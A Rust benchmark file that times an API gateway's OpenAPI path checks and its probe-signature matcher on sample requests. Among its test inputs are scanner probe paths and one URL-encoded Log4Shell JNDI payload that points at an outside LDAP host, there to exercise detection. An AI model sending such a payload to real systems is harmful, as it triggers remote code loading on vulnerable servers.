//! Cost of one API-spec check: a generated spec of 1,000 templates (50 resources with
//! static and parameter siblings, nested sub-resources) and a real FastAPI spec. Goal: under
//! about 0.3 µs per check.
//!
//! `request_walk_*` adds the path normalization and the probe matcher: the whole decision on a
//! request's path and query (goal: at most 1 µs).
//!
//! Run: `cargo bench -p portcullis-policy --bench api`

use std::hint::black_box;
use std::time::Duration;

use criterion::{criterion_group, criterion_main, Criterion};
use portcullis_policy::api::{ApiMatch, Spec};
use portcullis_policy::probes::{ProbeMatcher, ProbeSettings};
use portcullis_policy::route_path;

/// 50 resources × 20 templates under `/api/v1`, as JSON.
fn generated_spec() -> String {
    let mut paths = Vec::new();
    let operation = r#"{"responses": {"200": {"description": "OK"}}}"#;
    for resource in 0..50 {
        let base = format!("/api/v1/resource{resource}");
        paths.push(format!(
            r#""{base}": {{"get": {operation}, "post": {operation}}}"#
        ));
        paths.push(format!(
            r#""{base}/{{id}}": {{"get": {operation}, "put": {operation}, "delete": {operation}}}"#
        ));
        paths.push(format!(r#""{base}/search": {{"get": {operation}}}"#));
        paths.push(format!(r#""{base}/export": {{"post": {operation}}}"#));
        for sub in 0..8 {
            paths.push(format!(
                r#""{base}/{{id}}/sub{sub}": {{"get": {operation}, "post": {operation}}}"#
            ));
            paths.push(format!(
                r#""{base}/{{id}}/sub{sub}/{{sub_id}}": {{"get": {operation}, "patch": {operation}}}"#
            ));
        }
    }
    format!(
        r#"{{"openapi": "3.1.0", "info": {{"title": "bench", "version": "1"}}, "paths": {{{}}}}}"#,
        paths.join(", ")
    )
}

fn bench_check(c: &mut Criterion) {
    let spec = Spec::parse(generated_spec().as_bytes()).expect("generated spec parses");
    assert_eq!(spec.template_count(), 1000);
    let cases: [(&str, &[u8], &[u8]); 6] = [
        ("known_deep", b"GET", b"/api/v1/resource37/12345/sub5/678"),
        ("known_static_sibling", b"GET", b"/api/v1/resource37/search"),
        ("unknown_probe", b"GET", b"/wp-login.php"),
        (
            "unknown_deep",
            b"GET",
            b"/api/v1/resource37/12345/sub5/678/extra",
        ),
        ("method_not_allowed", b"DELETE", b"/api/v1/resource37"),
        ("known_options", b"OPTIONS", b"/api/v1/resource49/9/sub7/"),
    ];
    let mut group = c.benchmark_group("api_check_1000_templates");
    for (name, method, path) in cases {
        group.bench_function(name, |b| {
            b.iter(|| spec.check(black_box(method), black_box(path)))
        });
    }
    group.finish();

    let real = Spec::parse(include_bytes!(
        "../tests/corpora/api/fastapi-full-stack-template-openapi.json"
    ))
    .expect("corpus spec parses");
    let cases: [(&str, &[u8], &[u8]); 3] = [
        (
            "known",
            b"PATCH",
            b"/api/v1/users/3fa85f64-5717-4562-b3fc-2c963f66afa6",
        ),
        ("unknown", b"GET", b"/api/v1/users/me/.env"),
        ("method_not_allowed", b"PUT", b"/api/v1/users/me"),
    ];
    let mut group = c.benchmark_group("api_check_fastapi_template");
    for (name, method, path) in cases {
        group.bench_function(name, |b| {
            b.iter(|| real.check(black_box(method), black_box(path)))
        });
    }
    group.finish();
}

/// The whole path-and-payload decision of one request, as the gateway takes it
/// (crates/portcullis/src/filters.rs `admit`): the path normalized, the 1,000-template spec
/// checked, then the built-in probe list with its payload signatures on the path and query.
/// The goal of the "Know the API" issue: at most 1 µs together.
fn bench_walk(c: &mut Criterion) {
    let spec = Spec::parse(generated_spec().as_bytes()).expect("generated spec parses");
    let matcher = ProbeMatcher::new(&ProbeSettings::default()).expect("built-in list builds");
    let mut path = Vec::with_capacity(256);
    let cases: [(&str, &[u8], &[u8]); 6] = [
        ("known", b"GET", b"/api/v1/resource37/12345/sub5/678"),
        (
            "known_with_query",
            b"GET",
            b"/api/v1/resource37/search?q=phpmyadmin&page=2&sort=-created",
        ),
        ("scanner_path", b"GET", b"/wp-login.php"),
        (
            "log4shell_query",
            b"GET",
            b"/api/v1/resource3?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D",
        ),
        (
            "encoded_known",
            b"GET",
            b"/api/v1/resource%33%37/12345/./sub5//678",
        ),
        ("unknown", b"POST", b"/api/v1/resource37/12345/sub5/678/x"),
    ];
    let mut group = c.benchmark_group("request_walk_1000_templates");
    for (name, method, target) in cases {
        group.bench_function(name, |b| {
            b.iter(|| {
                let target = black_box(target);
                let cut = target
                    .iter()
                    .position(|&b| b == b'?')
                    .unwrap_or(target.len());
                let verdict = match route_path::normalize(&target[..cut], &mut path) {
                    Ok(()) => spec.check(black_box(method), &path),
                    Err(_) => ApiMatch::Unknown,
                };
                (verdict, matcher.check(target, None).is_some())
            })
        });
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .warm_up_time(Duration::from_millis(500))
        .measurement_time(Duration::from_secs(2))
        .sample_size(50);
    targets = bench_check, bench_walk
}
criterion_main!(benches);
